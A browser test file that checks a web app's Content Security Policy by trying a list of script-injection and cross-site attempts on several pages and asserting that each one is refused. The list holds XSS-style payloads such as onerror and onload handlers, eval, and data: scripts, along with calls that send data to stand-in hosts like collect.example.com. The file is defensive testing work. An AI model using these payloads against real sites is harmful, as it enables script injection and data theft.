import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { leaveRecord } from '../../support/browser/accounts';
import { baseUrl, expectInOrder, open, visit, type Visit } from '../../support/browser/browser';
import {
  adminScreens,
  expectedErrors,
  publicScreens,
  show,
  signInScreen,
  type Screen,
} from '../../support/browser/screens';
import { settled } from '../../support/browser/settled';
import { needsCases, proves } from '../../support/evidence.ts';

const category = 'hardening';

const trustedTypes = 'require-trusted-types-for';

/** What somebody who gets to change the page might try, as code, and the directive that stands in the way. */
const attempts: readonly [name: string, directive: string, code: string][] = [
  [
    'an element with a handler, as innerHTML',
    trustedTypes,
    `document.body.innerHTML = '<img src="data:," onerror="ran = 1">'`,
  ],
  ['a script alone, as innerHTML', trustedTypes, `document.body.innerHTML = '<script>ran = 1</' + 'script>'`],
  ['an element, as outerHTML', trustedTypes, `document.querySelector('main').outerHTML = '<i></i>'`],
  [
    'an element beside another',
    trustedTypes,
    `document.body.insertAdjacentHTML('beforeend', '<svg onload="ran = 1">')`,
  ],
  [
    'a page of its own in a frame',
    trustedTypes,
    `document.createElement('iframe').srcdoc = '<script>parent.ran = 1</' + 'script>'`,
  ],
  ['a document from text', trustedTypes, `new DOMParser().parseFromString('<p>text</p>', 'text/html')`],
  ['a fragment from text', trustedTypes, `document.createRange().createContextualFragment('<b></b>')`],
  ['writing into the page', trustedTypes, `document.write('<p>written</p>')`],
  ['a script of another site', trustedTypes, `document.createElement('script').src = 'https://cdn.example.com/a.js'`],
  [
    'an answer of the site as a script',
    trustedTypes,
    `document.createElement('script').src = '/rest/v1/links?select=ran'`,
  ],
  ['a script by the name of one', trustedTypes, `document.createElement('script').src = '/assets/../rest/v1/links'`],
  [
    'a script from data',
    trustedTypes,
    `document.createElement('script').setAttribute('src', 'data:text/javascript,ran = 1')`,
  ],
  ['a script from its text', trustedTypes, `document.createElement('script').textContent = 'ran = 1'`],
  ['a handler as an attribute', trustedTypes, `document.body.setAttribute('onclick', 'ran = 1')`],
  ['text run by a timer', trustedTypes, `setTimeout('ran = 1')`],
  ['text run at once', trustedTypes, `(0, eval)('ran = 1')`],
  ['a function from text', trustedTypes, `new Function('ran = 1')()`],
  ['a worker from data', trustedTypes, `new Worker('data:text/javascript,0')`],
  ['a second policy for code', 'trusted-types', `trustedTypes.createPolicy('another', {})`],
  // It passes for JSON, and even that does not run.
  [
    'a script from harmless text',
    'script-src-elem',
    `const script = document.createElement('script'); script.textContent = '"text"'; document.head.append(script)`,
  ],
  ['a module from data', 'script-src-elem', `await import('data:text/javascript,globalThis.ran = 1')`],
  ['a module of another site', 'script-src-elem', `await import('https://cdn.example.com/a.js')`],
  [
    'a style element',
    'style-src-elem',
    `const style = document.createElement('style'); style.textContent = '* { display: none }'; document.head.append(style)`,
  ],
  ['a style attribute', 'style-src-attr', `document.body.setAttribute('style', 'display: none')`],
  ['data sent to another site', 'connect-src', `await fetch('https://collect.example.com/')`],
  ['data sent on leaving', 'connect-src', `navigator.sendBeacon('https://collect.example.com/', 'data')`],
  ['a picture without encryption', 'img-src', `new Image().src = 'http://pictures.example.com/a.png'`],
  [
    'a font of another site',
    'font-src',
    `await new FontFace('Other', 'url(https://fonts.example.com/a.woff2)').load()`,
  ],
  ['a film', 'media-src', `document.createElement('video').src = 'https://films.example.com/a.mp4'`],
  [
    'a frame of another site',
    'frame-src',
    `const frame = document.createElement('iframe'); frame.src = 'https://frames.example.com/'; document.body.append(frame)`,
  ],
  [
    'a plug-in',
    trustedTypes,
    `const object = document.createElement('object'); object.data = 'https://plugins.example.com/a'; document.body.append(object)`,
  ],
  [
    'another base for all addresses',
    'base-uri',
    `const base = document.createElement('base'); base.href = 'https://base.example.com/'; document.head.append(base)`,
  ],
  [
    'a form sent to another site',
    'form-action',
    `const form = document.createElement('form'); form.action = 'https://forms.example.com/'; document.body.append(form); form.submit()`,
  ],
];

/** One page of each kind of rights: what holds there holds for the others, whose policy is the same. */
const attacked: readonly Screen[] = [...publicScreens, ...adminScreens, signInScreen].filter(({ name }) =>
  ['home', 'post', 'contact', 'sign-in', 'edit post', 'settings'].includes(name),
);

/** Takes from a visit what it did on purpose. */
function forget({ violations, requests }: Visit): void {
  violations.length = 0;
  requests.length = 0;
}

async function visitorOf({ as }: Screen, options?: Parameters<typeof visit>[0]): Promise<Visit> {
  const visitor = await visit(options);
  if (as) await leaveRecord(visitor.page, baseUrl, as);
  return visitor;
}

/** Tries one thing as the page's own code would, in a task of its own; how it fails does not matter. */
async function attempt(page: Page, code: string): Promise<void> {
  await page.evaluate(`new Promise((done) => setTimeout(() => {
    (async () => { ${code} })().catch(() => undefined).then(done);
  }))`);
}

describe('the policy of a page', () => {
  test.for(attacked)('stands in the way on the screen $name', async (screen, context) => {
    for (const [challenge, directive] of attempts)
      proves(context, { category, surface: `screen: ${screen.name}`, challenge, expected: `refused by ${directive}` });
    const visitor = await visitorOf(screen, { expectedErrors: [/./] });
    const { page, violations } = visitor;
    await show(page, screen);
    expect(violations).toEqual([]);
    for (const [challenge, directive, code] of attempts) {
      await attempt(page, code);
      await expect
        .poll(() => violations.map((each) => each.split(':')[0]), { message: challenge })
        .toContain(directive);
      forget(visitor);
    }
    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
    expect(await page.locator('main h1').first().isVisible()).toBe(true);
  });

  test('has a case for each screen and each attempt', (context) => {
    const pairs = attacked.flatMap(({ name }) => attempts.map(([each]) => [`screen: ${name}`, each] as const));
    expect(attacked).toHaveLength(6);
    needsCases(context, { category, pairs });
  });

  test('fails the test of a page that acts against it', async () => {
    const visitor = await open('/contact', { expectedErrors: [/./] });
    expect(() => expectInOrder(visitor)).not.toThrow();
    await attempt(visitor.page, `document.body.innerHTML = '<b></b>'`);
    // By the policy of the header and by that in the page.
    await expect.poll(() => visitor.violations.length).toBe(2);
    expect(() => expectInOrder(visitor)).toThrow('what the content security policy forbids');
    forget(visitor);
  });
});

test('an error that nothing catches fails the test of a page, whatever is expected in the log', async () => {
  const visitor = await open('/contact', { expectedErrors: [/./] });
  await visitor.page.evaluate(() => {
    setTimeout(() => {
      throw new Error('thrown by a timer');
    });
    void Promise.reject(new Error('rejected'));
  });
  await expect.poll(() => [...visitor.uncaught].sort()).toEqual(['rejected', 'thrown by a timer']);
  expect(() => expectInOrder(visitor)).toThrow('errors that nothing caught');
  visitor.uncaught.length = 0;
});

describe('every screen', () => {
  test.for([...publicScreens, signInScreen, ...adminScreens])(
    '$name obeys its policy, and tells no other site where a visitor comes from',
    async (screen, context) => {
      const surface = `screen: ${screen.name}`;
      proves(
        context,
        { category, surface, challenge: 'its own policy', expected: 'nothing it forbids' },
        { category, surface, challenge: 'links to other sites', expected: 'noopener noreferrer' },
      );
      const { page, violations } = await visitorOf(screen, { expectedErrors });
      await show(page, screen);
      expect(violations).toEqual([]);
      const links = await page
        .locator('a[href]')
        .evaluateAll((found) =>
          (found as HTMLAnchorElement[])
            .filter(({ protocol, host, target }) => /^https?:$/.test(protocol) && (host !== location.host || target))
            .map(({ href, rel }) => ({ href, rel })),
        );
      // The footer of the public site has some, so that looking finds what there is.
      if (!screen.as && screen.address !== signInScreen.address) expect(links.length).toBeGreaterThan(0);
      expect(links.filter(({ rel }) => !/\bnoopener\b/.test(rel) || !/\bnoreferrer\b/.test(rel))).toEqual([]);
    },
  );

  test('is drawn anew by the script without breaking the policy, with what it tells search engines', async (context) => {
    proves(context, {
      category,
      surface: 'navigation in the browser',
      challenge: 'its own policy',
      expected: 'nothing it forbids',
    });
    const { page, violations } = await open('/');
    await settled(page);
    for (const name of ['Consoles', 'Blog', 'Contact']) {
      await page.getByRole('banner').getByRole('link', { name, exact: true }).click();
      await page.waitForFunction((title) => document.title.startsWith(title), name);
      await settled(page);
      const told = await page.locator('script[type="application/ld+json"]').allTextContents();
      expect(told, name).toHaveLength(1);
      expect(JSON.parse(told[0] ?? ''), name).toMatchObject({ '@context': 'https://schema.org' });
    }
    expect(violations).toEqual([]);
  });
});
